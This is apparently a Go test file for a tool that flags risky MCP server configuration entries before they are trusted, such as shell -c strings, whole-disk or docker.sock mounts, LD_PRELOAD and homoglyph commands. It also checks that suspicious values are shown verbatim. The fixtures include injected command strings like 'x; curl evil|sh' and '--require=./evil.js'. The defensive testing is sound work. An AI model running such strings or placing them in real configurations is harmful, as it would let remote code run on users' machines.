package cli

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/usher-mcp/usher/config"
)

// L4 of the threat list: shapes that deserve a second look before an entry is trusted, and plain ones that don't.
func TestRisks(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "server.js"), nil, 0o600); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct{ entry, want string }{
		{`{"command": "sh", "args": ["-c", "x"]}`, "sh -c runs a text"},
		{`{"command": "/bin/bash", "args": ["--norc", "-lc", "x"]}`, "bash -lc runs a text"},
		{`{"command": "env", "args": ["A=b", "sh", "-ec", "x"]}`, "sh -ec runs a text"},
		{`{"command": "timeout", "args": ["9", "python3.12", "-c", "x"]}`, "python3.12 -c runs a text"},
		{`{"command": "cmd.exe", "args": ["/C", "x"]}`, "cmd /C runs a text"},
		{`{"command": "pwsh", "args": ["-NoProfile", "-Command", "x"]}`, "pwsh -Command runs a text"},
		{`{"command": "node", "args": ["--eval=x"]}`, "node --eval=x runs a text"},
		{`{"command": "npx", "args": ["-y", "-c", "x"]}`, "npx -c runs a text"},
		{`{"command": "npx", "args": ["--package", "p", "--call=x"]}`, "npx --call=x runs a text"},
		{`{"command": "npm", "args": ["exec", "-c", "x"]}`, "npm -c runs a text"},
		{`{"command": "npx", "args": ["-y", "pkg", "-c", "x.json"]}`, "no version is named"},
		{`{"command": "npx", "args": ["-y", "@scope/pkg@1.2.3", "-c", "x.json"]}`, ""},
		{`{"command": "uvx", "args": ["pkg==1.2"]}`, ""},
		{`{"command": "npx", "args": ["-y", "pkg@latest"]}`, "no version is named"},
		{`{"command": "sudo", "args": ["x"]}`, "another user's rights"},
		{`{"command": "docker", "args": ["run", "-v", "/:/host", "i@sha256:0"]}`, "your whole disk"},
		{`{"command": "docker", "args": ["run", "--volume=//../:/host:ro", "i@sha256:0"]}`, "your whole disk"},
		{`{"command": "docker", "args": ["run", "-v/:/host", "i@sha256:0"]}`, "your whole disk"},
		{`{"command": "podman", "args": ["run", "--mount", "type=bind,target=/x,src=/", "i@sha256:0"]}`, "your whole disk"},
		{`{"command": "docker", "args": ["run", "-v", "${HOME}:/h", "i@sha256:0"]}`, "gives it ${HOME} of this machine"},
		{`{"command": "docker", "args": ["run", "-v", "${X:-/}:/h", "i@sha256:0"]}`, "gives it ${X:-/}"},
		{`{"command": "docker", "args": ["run", "-v", "/var/run/docker.sock:/s", "i@sha256:0"]}`, "as root"},
		{`{"command": "docker", "args": ["run", "--privileged", "i@sha256:0"]}`, "walls"},
		{`{"command": "docker", "args": ["run", "--network", "host", "i@sha256:0"]}`, "beside the processes"},
		{`{"command": "docker", "args": ["run", "-v", "data:/d", "i@sha256:0"]}`, ""},
		{`{"command": "./run.sh"}`, "files of this folder (./run.sh)"},
		{`{"command": "node", "args": ["server.js"]}`, "files of this folder (server.js)"},
		{`{"command": "node", "args": ["--import=../` + filepath.Base(dir) + `/server.js"]}`, "files of this folder (server.js)"},
		{`{"command": "npm", "args": ["start"]}`, "npm takes what it runs from files of this folder"},
		{`{"command": "python3", "args": ["-m", "server"]}`, "-m looks for what it runs in this folder"},
		{`{"command": "x", "env": {"LD_PRELOAD": "y"}}`, "LD_PRELOAD: by this"},
		{`{"command": "x", "env": {"npm_config_registry": "y"}}`, "npm_config_registry: by this"},
		{`{"command": "x", "args": ["$${NOT}", "${A_TOKEN}", "${keyring:k}"]}`, "the value of A_TOKEN, the secret k"},
		{`{"command": "${TOOL}"}`, "which program runs is up to a variable"},
		{`{"command": "gіt"}`, "plain ASCII"},
		{`{"command": "x", "args": ["a"], "env": {"HERE": "${HOME}"}}`, ""},
		{`{"url": "https://x.example/mcp", "bearerToken": "${T}"}`, "the value of T goes to x.example"},
		{`{"url": "https://x.example/${T}"}`, "the value of T goes to x.example"},
		{`{"url": "https://${H}/mcp"}`, "where it leads is up to a variable"},
		{`{"url": "http://x.example/mcp"}`, "isn't encrypted"},
		{`{"url": "http://127.0.0.1:1/mcp"}`, ""},
		{`{"url": "https://x.example/mcp"}`, ""},
	} {
		c, err := config.ParseFrom("p.json", []byte(`{"mcpServers": {"s": `+tt.entry+`}}`), config.From{Source: config.SourceProject, Folder: dir})
		if err != nil || len(c.Pending) != 1 {
			t.Fatalf("%s: %v %v", tt.entry, err, c.Problems)
		}
		got := strings.Join(risksOf(c.Pending[0], dir), "\n")
		if tt.want == "" && got != "" || !strings.Contains(got, tt.want) {
			t.Errorf("%s:\n got %q\nwant %q", tt.entry, got, tt.want)
		}
	}
}

// A name that sounds secret hides a token, and nothing that could run or lead somewhere. X1, X2
func TestShownBeforeTrust(t *testing.T) {
	c, err := config.ParseFrom("p.json", []byte(`{"mcpServers": {"s": {"command": "x", "args": ["PASSWORD=1;curl evil"], "env": {
		"A_TOKEN": "abcdefgh-12345678", "B_TOKEN": "/tmp/run-this.sh", "C_TOKEN": "x; curl evil|sh", "D_TOKEN": "${D_TOKEN}", "E_TOKEN": "--require=./evil.js"}}}}`),
		config.From{Source: config.SourceProject, Folder: "/x"})
	if err != nil {
		t.Fatal(err)
	}
	e := viewOf(c, c.Pending[0])
	want := map[string]string{"A_TOKEN": "[secret]", "B_TOKEN": "/tmp/run-this.sh", "C_TOKEN": "x; curl evil|sh", "D_TOKEN": "${D_TOKEN}", "E_TOKEN": "--require=./evil.js"}
	for name, value := range want {
		if e.Env[name] != value {
			t.Errorf("%s is %q", name, e.Env[name])
		}
	}
	if e.Args[0] != "PASSWORD=1;curl evil" {
		t.Errorf("args %q", e.Args)
	}
	for in, want := range map[string]string{
		" a\n": `" a\n"`, "\x1b[2J": `"\x1b[2J"`, "a\u202eb": `"a\u202eb"`, "x\ufe0fy\u3164\U000e0100": `"x\u{fe0f}y\u{3164}\u{e0100}"`, "\u00a0": `"\u00a0"`, "é日": `"é日"`,
	} {
		if got := exact(in); got != want {
			t.Errorf("%q is shown as %s", in, got)
		}
	}
}
